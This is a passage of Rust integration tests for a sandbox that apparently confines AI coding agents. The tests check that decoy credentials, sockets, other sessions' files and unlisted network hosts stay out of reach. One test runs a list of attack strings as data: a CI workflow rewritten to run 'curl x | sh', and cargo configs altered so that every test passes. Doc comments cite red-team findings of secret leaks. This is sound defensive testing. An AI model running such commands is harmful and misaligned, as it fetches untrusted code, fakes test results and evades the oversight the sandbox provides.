    let o = Command::new(forge_bin())
        .args(["sandbox", "--profile", "session", "--", "sh", "-c"])
        .arg(
            "echo \"$GIT_AUTHOR_NAME|$GIT_AUTHOR_EMAIL|$GIT_COMMITTER_NAME|$GIT_COMMITTER_EMAIL\"; \
             git add README.md && git commit -qm x && git log -1 --format='%an <%ae> %cn <%ce>'",
        )
        .current_dir(&repo)
        .env("TMPDIR", t.path().join("tmp"))
        .env("GIT_AUTHOR_NAME", "Ada Person")
        .env("GIT_AUTHOR_EMAIL", "ada@example.com")
        .env("GIT_COMMITTER_NAME", "Ada Committer")
        .env("GIT_COMMITTER_EMAIL", "ada.c@example.com")
        .env("GITHUB_TOKEN", "FORGE-DECOY-token")
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success(), "{o:?}");
    assert!(
        out.contains("Ada Person|ada@example.com|Ada Committer|ada.c@example.com"),
        "{o:?}"
    );
    assert!(
        out.contains("Ada Person <ada@example.com> Ada Committer <ada.c@example.com>"),
        "{o:?}"
    );
    assert!(!out.contains("FORGE-DECOY-token"), "{o:?}");
    end_keeper(t.path());
}

/// The pins stay while any sandbox binds them: a command still running (here, one a check left
/// behind), and another that started meanwhile and found them there — and go when both end.
#[test]
fn pins_stay_while_a_sandbox_binds_them() {
    if skip_or_fail("pins_stay_while_a_sandbox_binds_them") {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let repo = fresh_repo(t.path());
    let before = tree(&repo);
    let check = ["--profile", "check", "--write", repo.to_str().unwrap()];
    // Left running after `forge sandbox` itself has exec'd and its caller returned.
    let o = sandboxed(
        &repo,
        t.path(),
        &check,
        &[
            "sh",
            "-c",
            "sleep 3 >/dev/null 2>&1 </dev/null & echo started",
        ],
    );
    assert!(o.status.success(), "{o:?}");
    std::thread::sleep(Duration::from_millis(800));
    assert!(
        repo.join(".claude").is_dir(),
        "pinned while the sleeper runs"
    );
    let o = sandboxed(
        &repo,
        t.path(),
        &check,
        &[
            "sh",
            "-c",
            "echo x > .claude/settings.json && echo made; sleep 1; echo x > .codex/config.toml && echo made; echo done",
        ],
    );
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("done") && !out.contains("made"), "{o:?}");
    assert!(
        repo.join(".codex").is_dir(),
        "still pinned: the sleeper runs"
    );
    eventually("the pins go once nothing binds them", || {
        tree(&repo) == before
    });
}

/// Issue 34, point 1 (red team: 25 credential files no list named were read, and `STRIPE_KEY`,
/// `SIGNING_KEY`, `DB_PASS`, `SLACK_WEBHOOK_URL` reached a network sink). Home and the
/// environment are granted by allowlist: what nobody listed is out of reach in every profile,
/// while the toolchains' files, a person's git identity and what `sandbox.read` / `sandbox.env`
/// add stay. The same commands outside the sandbox see everything (the probe works).
#[test]
fn home_and_the_environment_are_granted_by_allowlist_not_by_lists_of_secrets() {
    if skip_or_fail("home_and_the_environment_are_granted_by_allowlist_not_by_lists_of_secrets") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    for (file, text) in [
        (".dbt/profiles.yml", "password: DBT-SECRET\n"),
        (".config/cloudflared/cert.pem", "CLOUDFLARED-SECRET\n"),
        ("wallets/keys.json", "WALLET-SECRET\n"),
        ("notes/todo.md", "NOTES-PRIVATE\n"),
        (".cargo/config.toml", "# CARGO-CONFIG-READABLE\n"),
        ("code/lib/src/lib.rs", "// LIB-READABLE\n"),
    ] {
        let p = home.join(file);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
    }
    let script = "cat ~/.dbt/profiles.yml ~/.config/cloudflared/cert.pem ~/wallets/keys.json \
                  ~/notes/todo.md ~/.cargo/config.toml ~/code/lib/src/lib.rs 2>/dev/null; \
                  env | sort";
    let run = |mode: &[&str], profile: &str| {
        let o = Command::new(forge_bin())
            .arg("sandbox")
            .args(mode)
            .args(["--profile", profile, "--", "sh", "-c", script])
            .current_dir(r.path())
            .env("HOME", &home)
            .env("TMPDIR", r.tmp())
            .env("STRIPE_KEY", "sk_live_STRIPE")
            .env("SIGNING_KEY", "SIGNING-VALUE")
            .env("DB_PASS", "DBPASS-VALUE")
            .env(
                "SLACK_WEBHOOK_URL",
                "https://hooks.slack.com/services/T/B/SLACKVALUE",
            )
            .env("MYAPP_MODE", "MYAPP-VALUE")
            .env("GIT_AUTHOR_NAME", "Ada Person")
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let unlisted = [
        "DBT-SECRET",
        "CLOUDFLARED-SECRET",
        "WALLET-SECRET",
        "NOTES-PRIVATE",
        "sk_live_STRIPE",
        "SIGNING-VALUE",
        "DBPASS-VALUE",
        "SLACKVALUE",
        "MYAPP-VALUE",
        "LIB-READABLE",
    ];
    let outside = run(&["--mode", "off"], "session");
    for s in unlisted {
        assert!(
            outside.contains(s),
            "the probe reads {s} outside: {outside}"
        );
    }
    for profile in ["session", "check", "red"] {
        let inside = run(&[], profile);
        for s in unlisted {
            assert!(
                !inside.contains(s),
                "{profile}: {s} reached the command:\n{inside}"
            );
        }
        assert!(
            inside.contains("CARGO-CONFIG-READABLE"),
            "{profile}: {inside}"
        );
        assert!(
            inside.contains("GIT_AUTHOR_NAME=Ada Person"),
            "{profile}: {inside}"
        );
        assert!(inside.contains("PATH="), "{profile}: {inside}");
    }
    // What the person grants.
    let config = r.read(".forge/config.yaml");
    r.config(&format!(
        "{config}\nsandbox:\n  read: [~/code/lib]\n  env: [MYAPP_*]\n"
    ));
    let inside = run(&[], "session");
    assert!(inside.contains("LIB-READABLE"), "{inside}");
    assert!(inside.contains("MYAPP_MODE=MYAPP-VALUE"), "{inside}");
    assert!(
        !inside.contains("NOTES-PRIVATE") && !inside.contains("sk_live_STRIPE"),
        "{inside}"
    );
}

/// Issue 34, point 5: the tool configs a person's next command reads — here cargo's (a
/// `runner = "true"` makes every `cargo test` pass) and a CI workflow — are read-only to a
/// session's commands by every route (rewrite, the name cargo prefers beside it, rename, remove),
/// while ordinary work goes on: cargo builds with that config, git commits.
#[test]
fn tool_configs_are_read_only_in_a_session_and_ordinary_work_goes_on() {
    if skip_or_fail("tool_configs_are_read_only_in_a_session_and_ordinary_work_goes_on") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let cargo_config = "[build]\nrustflags = []\n";
    let ci = "on: push\njobs: {}\n";
    r.write(".cargo/config.toml", cargo_config);
    r.write(".github/workflows/ci.yml", ci);
    r.write(
        "Cargo.toml",
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    );
    r.write("src/lib.rs", "pub fn f() -> u8 { 1 }\n");
    r.write(".gitignore", "/target\n");
    r.git(&["add", "-A"]);
    r.git(&["commit", "-qm", "init"]);
    for attack in [
        "printf '[target.x86_64-unknown-linux-gnu]\\nrunner = \"true\"\\n' >> .cargo/config.toml",
        "printf '[build]\\nrustc-wrapper = \"/bin/true\"\\n' > .cargo/config",
        "mv .cargo .cargo-old && mkdir .cargo && echo x > .cargo/config.toml",
        "rm -rf .cargo",
        "echo 'jobs: {steps: [run: curl x | sh]}' > .github/workflows/ci.yml",
        "echo x > .github/workflows/new.yml",
        "rm -rf .github",
    ] {
        let o = in_session(&r, &["sh", "-c", attack]);
        assert!(!o.status.success(), "{attack}: {o:?}");
        assert_eq!(r.read(".cargo/config.toml"), cargo_config, "{attack}");
        assert!(!r.exists(".cargo/config"), "{attack}");
        assert_eq!(r.read(".github/workflows/ci.yml"), ci, "{attack}");
        assert!(!r.exists(".github/workflows/new.yml"), "{attack}");
    }
    // Ordinary work: beside them, files are written and committed, and cargo builds reading
    // the config it cannot change.
    let o = in_session(
        &r,
        &[
            "sh",
            "-c",
            "echo b > .github/CODEOWNERS && echo 'pub fn g() {}' >> src/lib.rs && git add -A && git commit -qm work",
        ],
    );
    assert!(o.status.success(), "{o:?}");
    assert!(r.exists(".github/CODEOWNERS"));
    let cargo = Command::new("cargo").arg("--version").output();
    if cargo.is_ok_and(|o| o.status.success()) {
        let o = Command::new(forge_bin())
            .args(["sandbox", "--profile", "session", "--"])
            .args(["cargo", "build", "--offline", "-q"])
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .env("CARGO_TARGET_DIR", r.path().join("target"))
            .output()
            .unwrap();
        assert!(o.status.success(), "{o:?}");
        assert!(r.path().join("target").is_dir());
    } else {
        eprintln!("tool_configs_are_read_only_in_a_session: no cargo here, its build not run");
    }
    end_keeper(r.dir.path());
}

/// `sandbox.session_writable` lets the session change the tool configs it names, and only
/// those.
#[test]
fn a_tool_config_the_person_lets_the_session_change_is_writable() {
    if skip_or_fail("a_tool_config_the_person_lets_the_session_change_is_writable") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let config = r.read(".forge/config.yaml");
    r.config(&format!("{config}sandbox:\n  session_writable: [.cargo]\n"));
    r.write(".cargo/config.toml", "[build]\n");
    r.write(".github/workflows/ci.yml", "on: push\n");
    let o = in_session(&r, &["sh", "-c", "echo 'jobs = 2' >> .cargo/config.toml"]);
    assert!(o.status.success(), "{o:?}");
    assert_eq!(r.read(".cargo/config.toml"), "[build]\njobs = 2\n");
    let o = in_session(&r, &["sh", "-c", "echo x >> .github/workflows/ci.yml"]);
    assert!(!o.status.success(), "{o:?}");
    assert_eq!(r.read(".github/workflows/ci.yml"), "on: push\n");
    end_keeper(r.dir.path());
}

/// Issue 34, point 3 (the part without a proxy): a `forge run` check runs the agents' code —
/// tests they wrote, the clean room — and needs no network, so it gets a network namespace of
/// its own with only its loopback. A server the check starts on `127.0.0.1` answers; a server
/// of the machine's, on the machine's loopback, does not (nor anything further); a session
/// still reaches it; `sandbox.network.check: open` gives the check the machine's network back.
#[test]
fn a_check_reaches_only_its_own_loopback() {
    if skip_or_fail("a_check_reaches_only_its_own_loopback") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port().to_string();
    let checkout = tempfile::tempdir().unwrap();
    let probe = "import socket, sys\ntry:\n    socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=3).close()\n    print('outside: reached')\nexcept OSError as e:\n    print('outside: refused', e)\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\nc = socket.create_connection(s.getsockname()); a, _ = s.accept(); c.send(b'ok')\nprint('own loopback:', a.recv(2).decode())\n";
    let run = |profile: &str| {
        let mut c = Command::new(forge_bin());
        c.args(["sandbox", "--profile", profile]);
        if profile == "check" {
            c.arg("--write").arg(checkout.path());
        }
        let o = c
            .args(["--", "python3", "-c", probe, &port])
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .output()
            .unwrap();
        format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    };
    let check = run("check");
    assert!(check.contains("outside: refused"), "{check}");
    assert!(check.contains("own loopback: ok"), "{check}");
    let session = run("session");
    assert!(session.contains("outside: reached"), "{session}");
    let config = r.read(".forge/config.yaml");
    r.config(&format!(
        "{config}\nsandbox:\n  network:\n    check: open\n"
    ));
    let open = run("check");
    assert!(open.contains("outside: reached"), "{open}");
    assert!(open.contains("own loopback: ok"), "{open}");
    drop(server);
}

/// Issue 34, point 3: a profile with `sandbox.network.<profile>: {allow: [...]}` reaches the
/// machine only through Forge's egress proxy. A server of the machine's (standing in for the
/// internet) is not reachable directly; through the proxy, an allowed host answers by HTTP and by
/// SOCKS5, and a refused one is answered 403 / "not allowed" with the key that would allow it —
/// on CMD's stderr too, and never looked up. Both are `net` events in the timeline. The same for
/// a contained check (as `forge run` runs it) and a session.
#[test]
fn an_allowlist_reaches_only_its_hosts_through_the_proxy() {
    if skip_or_fail("an_allowlist_reaches_only_its_hosts_through_the_proxy") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    // Serves requests one after the other on a connection, as HTTP/1.1 servers do: a GET is
    // answered "hello from outside", a POST with its body (by length or in chunks) echoed, and a
    // request still in a proxy's absolute form is named.
    std::thread::spawn(move || {
        for c in server.incoming().flatten() {
            std::thread::spawn(move || {
                use std::io::{BufRead, Read, Write};
                let mut c = c;
                let mut rd = std::io::BufReader::new(c.try_clone().unwrap());
                loop {
                    let (mut line, mut length, mut chunked) = (String::new(), 0, false);
                    if !rd.read_line(&mut line).is_ok_and(|n| n > 0) {
                        return;
                    }
                    loop {
                        let mut h = String::new();
                        if !rd.read_line(&mut h).is_ok_and(|n| n > 2) {
                            break;
                        }
                        let h = h.to_ascii_lowercase();
                        if let Some(v) = h.strip_prefix("content-length:") {
                            length = v.trim().parse().unwrap();
                        }
                        chunked |= h.starts_with("transfer-encoding:") && h.contains("chunked");
                    }
                    let mut body = vec![0u8; length];
                    rd.read_exact(&mut body).unwrap();
                    while chunked {
                        let mut size = String::new();
                        rd.read_line(&mut size).unwrap();
                        let n = usize::from_str_radix(size.trim(), 16).unwrap();
                        let mut part = vec![0u8; n + 2];
                        rd.read_exact(&mut part).unwrap();
                        body.extend_from_slice(&part[..n]);
                        chunked = n > 0;
                    }
                    if !line.starts_with("POST") {
                        body = b"hello from outside".to_vec();
                    }
                    // An origin server is sent the origin form (`/path`), never a proxy's URI.
                    if line.split(' ').nth(1).is_some_and(|t| !t.starts_with('/')) {
                        body = format!("not origin form: {line}").into_bytes();
                    }
                    let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len());
                    if c.write_all(&[head.as_bytes(), &body].concat()).is_err() {
                        return;
                    }
                }
            });
        }
    });
    let config = r.read(".forge/config.yaml");
    r.config(&format!(
        "{config}\nsandbox:\n  network:\n    check: {{allow: ['localhost:{port}']}}\n    session: {{allow: ['localhost:{port}', '*.example.org']}}\n"
    ));
    let checkout = tempfile::tempdir().unwrap();
    let probe = r#"
import http.client, os, socket, sys, urllib.request
port = int(sys.argv[1])
try:
    socket.create_connection(('127.0.0.1', port), timeout=3).close()
    print('direct: reached')
except OSError as e:
    print('direct: refused', e)
proxy = os.environ['HTTP_PROXY']
for k in ('no_proxy', 'NO_PROXY'):
    os.environ.pop(k, None)
opener = urllib.request.build_opener(urllib.request.ProxyHandler({'http': proxy}))
print('http:', opener.open('http://localhost:%d/' % port, timeout=10).read().decode())
host, pport = proxy.rsplit('/', 1)[1].split(':')
s = socket.create_connection((host, int(pport)), timeout=10)
s.sendall(b'\x05\x01\x00'); assert s.recv(2) == b'\x05\x00'
name = b'localhost'
s.sendall(b'\x05\x01\x00\x03' + bytes([len(name)]) + name + port.to_bytes(2, 'big'))
reply = s.recv(10)
s.sendall(b'GET / HTTP/1.0\r\n\r\n')
print('socks:', reply[1], s.recv(1000).decode().split('\r\n\r\n')[1])
k = http.client.HTTPConnection(host, int(pport), timeout=10)
said = []
for body in (b'one', iter([b'tw', b'o']), None):
    k.request('POST' if body else 'GET', 'http://localhost:%d/' % port, body=body)
    said.append(k.getresponse().read().decode())
print('keep-alive:', ', '.join(said))
c = http.client.HTTPConnection(host, int(pport), timeout=10)
c.set_tunnel('example.invalid', 443)
try:
    c.connect()
    print('connect: reached')
except OSError as e:
    print('connect: refused', e)
"#;
    let run = |profile: &str| {
        let mut c = Command::new(forge_bin());
        c.args(["sandbox", "--profile", profile]);
        if profile == "check" {
            c.arg("--write").arg(checkout.path()).arg("--contain");
        }
        let o = c
            .args(["--", "python3", "-c", probe, &port.to_string()])
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .env("FORGE_SESSION", "egress")
            .output()
            .unwrap();
        (
            String::from_utf8_lossy(&o.stdout).into_owned(),
            String::from_utf8_lossy(&o.stderr).into_owned(),
        )
    };
    for profile in ["check", "session"] {
        let (out, err) = run(profile);
        let all = format!("{out}{err}");
        assert!(out.contains("direct: refused"), "{profile}: {all}");
        assert!(out.contains("http: hello from outside"), "{profile}: {all}");
        assert!(
            out.contains("socks: 0 hello from outside"),
            "{profile}: {all}"
        );
        // Three requests on one connection to the proxy, a body by length, one in chunks.
        assert!(
            out.contains("keep-alive: one, two, hello from outside"),
            "{profile}: {all}"
        );
        let key = format!("sandbox.network.{profile}.allow");
        assert!(
            out.contains(&format!(
                "connect: refused Tunnel connection failed: 403 Forbidden by Forge: add example.invalid to {key}"
            )),
            "{profile}: {all}"
        );
        assert!(
            err.contains(&format!(
                "forge sandbox: example.invalid:443 is not allowed: add `example.invalid` to `{key}` in .forge/config.yaml"
            )),
            "{profile}: {all}"
        );
    }
    let timeline = r.read(".forge/sessions/egress/timeline.jsonl");
    let net: Vec<serde_json::Value> = timeline
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|e| e["kind"] == "net")
        .map(|e| e["data"].clone())
        .collect();
    for profile in ["check", "session"] {
        let of = |decision: &str, via: &str| {
            net.iter()
                .filter(|d| d["profile"] == profile && d["decision"] == decision && d["via"] == via)
                .count()
        };
        assert_eq!(of("allowed", "http"), 2, "{profile}: {net:#?}");
        assert_eq!(of("allowed", "socks5"), 1, "{profile}: {net:#?}");
        assert_eq!(of("refused", "connect"), 1, "{profile}: {net:#?}");
    }
    assert!(
        net.iter()
            .any(|d| d["host"] == "example.invalid" && d["port"] == 443 && d.get("rule").is_none()),
        "{net:#?}"
    );
    assert!(
        net.iter()
            .any(|d| d["host"] == "localhost" && d["rule"] == format!("localhost:{port}")),
        "{net:#?}"
    );

    // `--explain` says what each profile's network is, in words and in JSON.
    let explain = |profile: &str, json: bool| {
        let mut args = vec!["sandbox", "--explain", "--profile", profile];
        if json {
            args.push("--json");
        }
        let o = Command::new(forge_bin())
            .args(&args)
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    assert!(
        explain("session", false).contains(&format!(
            "Network: its own loopback, and through Forge's egress proxy only `localhost:{port}`, `*.example.org` (`sandbox.network.session.allow`)"
        )),
        "{}",
        explain("session", false)
    );
    assert!(explain("red", false).contains("Network: the machine's (`sandbox.network.red: open`)"));
    let j: serde_json::Value = serde_json::from_str(&explain("check", true)).unwrap();
    assert_eq!(
        j["network"],
        serde_json::json!({"allow": [format!("localhost:{port}")]})
    );

    // A host that is not one is a config error naming the key.
    r.config(&format!(
        "{config}\nsandbox:\n  network:\n    check: {{allow: ['https://api.example.com']}}\n"
    ));
    let o = Command::new(forge_bin())
        .args(["sandbox", "--profile", "check", "--write"])
        .arg(checkout.path())
        .args(["--", "true"])
        .current_dir(r.path())
        .env("TMPDIR", r.tmp())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("`sandbox.network.check.allow[0]`"), "{err}");
    assert!(err.contains("https://api.example.com"), "{err}");
}

/// Without a network namespace (here: `--carve-by-rules`, which makes no namespace at all) an
/// allowlist cannot be enforced: `auto` says which profile reaches the network and which key is
/// not enforced, and starts no proxy; `require` refuses to run.
#[test]
fn an_allowlist_without_a_network_namespace_says_so() {
    if skip_or_fail("an_allowlist_without_a_network_namespace_says_so") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let config = r.read(".forge/config.yaml");
    r.config(&format!(
        "{config}\nsandbox:\n  network:\n    session: {{allow: [pypi.org]}}\n"
    ));
    let run = |mode: &str| {
        Command::new(forge_bin())
            .args(["sandbox", "--carve-by-rules", "--mode", mode, "--"])
            .args(["sh", "-c", "echo proxy=${HTTP_PROXY:-none}"])
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .env_remove("HTTP_PROXY")
            .output()
            .unwrap()
    };
    let why = "no network namespace could be made here, so the session profile can reach the network (`sandbox.network.session: {allow: [...]}` is not enforced)";
    let o = run("auto");
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert!(err.contains(why), "{err}");
    assert_eq!(String::from_utf8_lossy(&o.stdout), "proxy=none\n");
    let o = run("require");
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(err.contains(why), "{err}");
    assert!(o.stdout.is_empty());
}

/// The egress proxy runs outside the sandbox and must not outlive it: it ends with CMD when the
/// launcher `exec`s it, and with `forge sandbox` when CMD is contained. Found by the environment
/// it was started with (the launcher's, before CMD's was made).
#[test]
fn the_egress_proxy_ends_with_its_sandbox() {
    if skip_or_fail("the_egress_proxy_ends_with_its_sandbox") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let config = r.read(".forge/config.yaml");
    r.config(&format!(
        "{config}\nsandbox:\n  network:\n    session: {{allow: [localhost]}}\n    check: {{allow: [localhost]}}\n"
    ));
    let checkout = tempfile::tempdir().unwrap();
    let marker = format!("FORGE_SESSION=proxy-lifetime-{}", std::process::id());
    let proxies = || -> usize {
        std::fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .filter(|e| {
                let p = e.path();
                std::fs::read_to_string(p.join("comm")).is_ok_and(|c| c.trim() == "forge-proxy")
                    && std::fs::read(p.join("environ"))
                        .is_ok_and(|env| env.split(|b| *b == 0).any(|v| v == marker.as_bytes()))
            })
            .count()
    };
    for profile in ["session", "check"] {
        let mut c = Command::new(forge_bin());
        c.args(["sandbox", "--profile", profile]);
        if profile == "check" {
            c.arg("--write").arg(checkout.path()).arg("--contain");
        }
        let mut child = c
            .args(["--", "sleep", "1"])
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .env("FORGE_SESSION", marker.split_once('=').unwrap().1)
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(500));
        assert_eq!(proxies(), 1, "{profile}: one proxy while CMD runs");
        assert!(child.wait().unwrap().success(), "{profile}");
        let gone = (0..40).any(|_| {
            std::thread::sleep(std::time::Duration::from_millis(50));
            proxies() == 0
        });
        assert!(gone, "{profile}: the proxy outlived its sandbox");
    }
}

/// Red team of issue 34: with home read by allowlist, a socket in an unlisted folder of home
/// (Docker Desktop's `~/.docker/run/docker.sock`, 1Password's SSH agent, another project's dev
/// server) was still reachable — Landlock does not stop a `connect()` — until every socket the
/// kernel lists is covered by a mount wherever it lies. And a session could read another
/// project's private TMPDIR: the folder of every sandbox's TMPDIR is a hole, its own granted.
#[test]
fn sockets_under_home_and_other_sandboxes_tmpdirs_are_out_of_reach() {
    if skip_or_fail("sockets_under_home_and_other_sandboxes_tmpdirs_are_out_of_reach") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let other = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    let mut listeners = Vec::new();
    let mut socks = Vec::new();
    for rel in [".docker/run/docker.sock", "code/other/dev.sock"] {
        let p = home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        listeners.push(std::os::unix::net::UnixListener::bind(&p).unwrap());
        socks.push(p);
    }
    for s in &socks {
        let s = s.to_str().unwrap();
        let o = Command::new(forge_bin())
            .args([
                "sandbox",
                "--mode",
                "off",
                "--",
                "python3",
                "-c",
                CONNECT_PROBE,
                s,
            ])
            .current_dir(r.path())
            .env("HOME", &home)
            .output()
            .unwrap();
        assert!(
            String::from_utf8_lossy(&o.stdout).contains("connected"),
            "{o:?}"
        );
        let o = Command::new(forge_bin())
            .args(["sandbox", "--", "python3", "-c", CONNECT_PROBE, s])
            .current_dir(r.path())
            .env("HOME", &home)
            .output()
            .unwrap();
        assert!(
            String::from_utf8_lossy(&o.stdout).contains("refused"),
            "{s}: {o:?}"
        );
    }
    // Another project's session leaves a note in its private TMPDIR; this one cannot read it,
    // and still writes its own.
    let o = Command::new(forge_bin())
        .args([
            "sandbox",
            "--",
            "sh",
            "-c",
            "echo OTHER-SESSION-NOTE > \"$TMPDIR/notes\"; echo \"$TMPDIR\"",
        ])
        .current_dir(other.path())
        .env("HOME", &home)
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    let note = Path::new(String::from_utf8_lossy(&o.stdout).trim()).join("notes");
    assert!(note.exists(), "{o:?}");
    let o = Command::new(forge_bin())
        .args(["sandbox", "--", "sh", "-c"])
        .arg(format!(
            "cat {}; echo mine > \"$TMPDIR/x\" && cat \"$TMPDIR/x\"",
            note.display()
        ))
        .current_dir(r.path())
        .env("HOME", &home)
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(!out.contains("OTHER-SESSION-NOTE"), "{o:?}");
    assert!(out.contains("mine"), "{o:?}");
    drop(listeners);
}

/// Issue 34, point 1: tokens *inside* the config files a session may read — `~/.gitconfig`'s
/// `[url "https://oauth2:TOKEN@…"]`, `http.extraHeader`, an inline credential helper;
/// `~/.cargo/config.toml`'s registry token and proxy password — reach a command only through a
/// redacted view bound over the file: `cat` shows none of them, while git and cargo still parse
/// the files and the identity is still there. The clients' settings files are hidden from the
/// session whole. A kept session's view is made again when the original changes.
#[test]
fn tokens_inside_granted_config_files_are_redacted_and_client_settings_hidden() {
    if skip_or_fail("tokens_inside_granted_config_files_are_redacted_and_client_settings_hidden") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    for (file, text) in [
        (
            ".gitconfig",
            "[user]\n\tname = Ada Lovelace\n\temail = ada@example.com\n\
             [url \"https://oauth2:GIT-URL-TOKEN@gitlab.example/\"]\n\tinsteadOf = https://gitlab.example/\n\
             [http]\n\textraHeader = Authorization: Bearer GIT-HEADER-TOKEN\n\
             [credential]\n\thelper = \"!f() { echo password=GIT-HELPER-TOKEN; }; f\"\n\
             [include]\n\tpath = ~/.gitconfig-work\n",
        ),
        (
            ".gitconfig-work",
            "[url \"https://ci:GIT-INCLUDE-TOKEN@git.work.example/\"]\n\tinsteadOf = https://git.work.example/\n",
        ),
        (
            ".cargo/config.toml",
            "[registries.corp]\nindex = \"sparse+https://corp.example/\"\ntoken = \"CARGO-REGISTRY-TOKEN\"\n\
             [http]\nproxy = \"http://bob:CARGO-PROXY-PASSWORD@proxy.example:3128\"\n",
        ),
        (
            ".claude/settings.json",
            "{\"env\": {\"ANTHROPIC_AUTH_TOKEN\": \"CLAUDE-ENV-TOKEN\"}, \"model\": \"CLAUDE-MODEL\"}\n",
        ),
        (
            ".codex/config.toml",
            "model = \"CODEX-MODEL\"\n[shell_environment_policy.set]\nOPENAI_API_KEY = \"CODEX-ENV-TOKEN\"\n",
        ),
    ] {
        let p = home.join(file);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
    }
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    let script = format!(
        "cat ~/.gitconfig ~/.gitconfig-work ~/.cargo/config.toml ~/.claude/settings.json ~/.codex/config.toml 2>&1; \
         echo NAME=$(git config --global user.name); \
         git config --global --list >/dev/null && echo GIT-PARSES; \
         cd \"$TMPDIR\" && rm -rf probe && '{cargo}' new --vcs none --quiet probe && echo CARGO-PARSES; \
         echo done"
    );
    let run = |mode: &[&str]| {
        let o = Command::new(forge_bin())
            .arg("sandbox")
            .args(mode)
            .args(["--profile", "session", "--", "sh", "-c", &script])
            .current_dir(r.path())
            .env("HOME", &home)
            .env("TMPDIR", r.tmp())
            .output()
            .unwrap();
        (
            String::from_utf8_lossy(&o.stdout).into_owned(),
            String::from_utf8_lossy(&o.stderr).into_owned(),
        )
    };
    let tokens = [
        "GIT-URL-TOKEN",
        "GIT-HEADER-TOKEN",
        "GIT-HELPER-TOKEN",
        "GIT-INCLUDE-TOKEN",
        "CARGO-REGISTRY-TOKEN",
        "CARGO-PROXY-PASSWORD",
        "CLAUDE-ENV-TOKEN",
        "CODEX-ENV-TOKEN",
    ];
    let (outside, _) = run(&["--mode", "off"]);
    for s in tokens {
        assert!(
            outside.contains(s),
            "the probe reads {s} outside: {outside}"
        );
    }
    let (inside, err) = run(&[]);
    for s in tokens {
        assert!(
            !inside.contains(s),
            "{s} reached the command:\n{inside}\n{err}"
        );
    }
    for kept in [
        "NAME=Ada Lovelace",
        "GIT-PARSES",
        "CARGO-PARSES",
        "[url \"https://gitlab.example/\"]",
        "[url \"https://git.work.example/\"]",
        "proxy = \"http://proxy.example:3128\"",
        "index = \"sparse+https://corp.example/\"",
        "<redacted by forge>",
        "done",
    ] {
        assert!(inside.contains(kept), "{kept:?} missing:\n{inside}\n{err}");
    }
    // Hidden whole, not redacted: the session's commands have no use for the clients' control
    // files.
    assert!(
        !inside.contains("CLAUDE-MODEL") && !inside.contains("CODEX-MODEL"),
        "{inside}"
    );
    // Without a mount namespace, the plan says what it cannot redact.
    let (_, carved) = run(&["--carve-by-rules"]);
    assert!(
        carved.contains(".gitconfig holds a credential")
            && carved.contains("commands read it whole"),
        "{carved}"
    );
    // A kept session: the original changes between two commands, and the next one reads the
    // new file's view.
    std::thread::sleep(std::time::Duration::from_millis(2500));
    let (second, _) = run(&[]);
    assert!(second.contains("NAME=Ada Lovelace"), "{second}");
    // Where a namespace is kept, its record holds the views and vouches for the plan: the
    // change below must be noticed by the witnesses, not by a namespace made anyway.
    if !no_keyring("tokens_inside_granted_config_files_are_redacted_and_client_settings_hidden") {
        let rec = record_body(&keeper_record(&r).expect("a kept namespace"));
        assert!(
            rec["witnesses"].is_array(),
            "the plan is vouched for: {rec}"
        );
        assert!(
            rec["plan"]["views"].as_array().is_some_and(|v| v
                .iter()
                .any(|v| v["path"] == home.join(".gitconfig").display().to_string())),
            "{rec}"
        );
    }
    std::fs::write(
        home.join(".gitconfig"),
        "[user]\n\tname = Grace Hopper\n[http]\n\textraHeader = Authorization: Bearer NEW-HEADER-TOKEN\n",
    )
    .unwrap();
